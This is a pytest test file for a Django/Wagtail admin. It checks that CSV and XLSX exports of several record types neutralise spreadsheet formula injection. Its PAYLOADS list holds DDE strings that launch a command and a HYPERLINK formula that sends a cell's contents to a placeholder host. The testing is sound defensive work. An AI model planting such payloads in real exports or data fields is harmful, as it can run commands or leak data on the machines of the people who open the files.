"""No exported cell runs as a spreadsheet formula (CSV/formula injection, OWASP).

Each export is requested at its real URL by the role that uses it, with records whose text
holds every dangerous prefix; the guard then finds every export view in the admin's URLs.
"""

import csv
import inspect
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from home.spreadsheets import FORMULA_PREFIXES
from tests.factories import make_opportunity, make_organisation, make_volunteer
from tests.security.admin_records import (
    make_application,
    make_booking,
    make_campaign,
    make_idea,
    make_school_request,
    make_session,
)

pytestmark = pytest.mark.django_db

# At most 30 characters: they also go into short columns (phone numbers), which PostgreSQL enforces.
PAYLOADS = [
    '=HYPERLINK("http://x/?"&B2)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def made_by(role, django_user_model):
    user = django_user_model.objects.create_user(f"eksport-{role}", f"{role}@example.org")
    if role == "superuser":
        user.is_superuser = True
        user.save()
    else:
        user.groups.add(Group.objects.get(name=role))
    return user


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response):
    text = content(response).decode("utf-8-sig")
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(content(response))).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def assert_neutralised(response, export_format):
    assert response.status_code == 200
    if export_format == "csv":
        cells = csv_cells(response)
        assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
        for payload in PAYLOADS:
            assert f"'{payload}" in cells or any(c.startswith(f"'{payload}") for c in cells), payload
    else:
        cells = xlsx_cells(response)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        # XML may read a stored carriage return back as a newline
        values = {c.value.replace("\n", "\r"): c for c in cells if isinstance(c.value, str)}
        for payload in PAYLOADS:
            cell = values[payload]
            assert cell.data_type == "s" and cell.quotePrefix, (payload, cell.data_type, cell.quotePrefix)


def volunteers(home_page):
    for payload in PAYLOADS:
        make_volunteer(first_name=payload, phone=payload)


def applications(home_page):
    opportunity = make_opportunity()
    for payload in PAYLOADS:
        make_application(opportunity, make_volunteer(), payload)


def bookings(home_page):
    session = make_session(home_page)
    for payload in PAYLOADS:
        make_booking(session, payload)


def school_requests(home_page):
    campaign = make_campaign(home_page, "Kampania")
    for payload in PAYLOADS:
        make_school_request(campaign, payload)


def ideas(home_page):
    for payload in PAYLOADS:
        make_idea(payload)


def organisations(home_page):
    for payload in PAYLOADS:
        make_organisation(name=payload, address=payload)


EXPORTS = [
    ("/admin/people/volunteer/", volunteers, "Koordynacja wolontariatu"),
    ("/admin/people/application/", applications, "Koordynacja wolontariatu"),
    ("/admin/workshops/booking/", bookings, "Warsztaty"),
    ("/admin/campaigns/schoolrequest/", school_requests, "Koordynacja wolontariatu"),
    ("/admin/initiatives/ideasubmission/", ideas, "Koordynacja wolontariatu"),
    ("/admin/snippets/volunteers/organisation/", organisations, "Redakcja"),
]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize(("url", "make_records", "role"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_register_exports_neutralise_formulas(
    client, home_page, django_user_model, url, make_records, role, export_format
):
    make_records(home_page)
    client.force_login(made_by(role, django_user_model))
    assert_neutralised(client.get(url, {"export": export_format}), export_format)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_campaign_impact_report_neutralises_editor_typed_titles(
    client, home_page, django_user_model, export_format
):
    today = timezone.localdate()
    for payload in PAYLOADS:
        make_campaign(home_page, payload)  # every campaign has its lines, downloaded or not
    client.force_login(made_by("Redakcja", django_user_model))
    response = client.get(
        "/admin/reports/kampanie/",
        {"date_from": today - timedelta(days=1), "date_to": today, "format": export_format},
    )
    assert_neutralised(response, export_format)


def export_views():
    """Every view class behind an admin URL that writes CSV/XLSX through Wagtail's export mixin."""

    def walk(patterns, prefix):
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, route)
            elif isinstance(pattern, URLPattern):
                callback = inspect.unwrap(pattern.callback)
                view_class = getattr(callback, "view_class", None)
                owner = getattr(callback, "__self__", None)  # wagtail-modeladmin: a bound ModelAdmin method
                if owner is not None:
                    view_class = getattr(owner, f"{callback.__name__}_class", None)
                if isinstance(view_class, type) and issubclass(view_class, SpreadsheetExportMixin):
                    yield route, view_class

    return dict(walk(get_resolver().url_patterns, ""))


def test_guard_every_admin_export_view_neutralises_formulas():
    views = export_views()
    names = " ".join(str(name) for name in views)
    for register in (
        "volunteer",
        "application",
        "booking",
        "schoolrequest",
        "ideasubmission",
        "organisation",
    ):
        assert register in names, (register, sorted(map(str, views)))
    worksheet = Workbook(write_only=True).create_sheet("x")
    for name, view_class in views.items():
        view = view_class.__new__(view_class)
        for payload in PAYLOADS:
            line = io.StringIO()
            view.write_csv_row(csv.DictWriter(line, fieldnames=["value"]), {"value": payload})
            assert next(csv.reader(io.StringIO(line.getvalue()))) == [f"'{payload}"], (name, payload)
            (cell,) = view.generate_xlsx_row(worksheet, {"value": payload})
            assert cell.data_type == "s" and cell.quotePrefix, (name, payload)
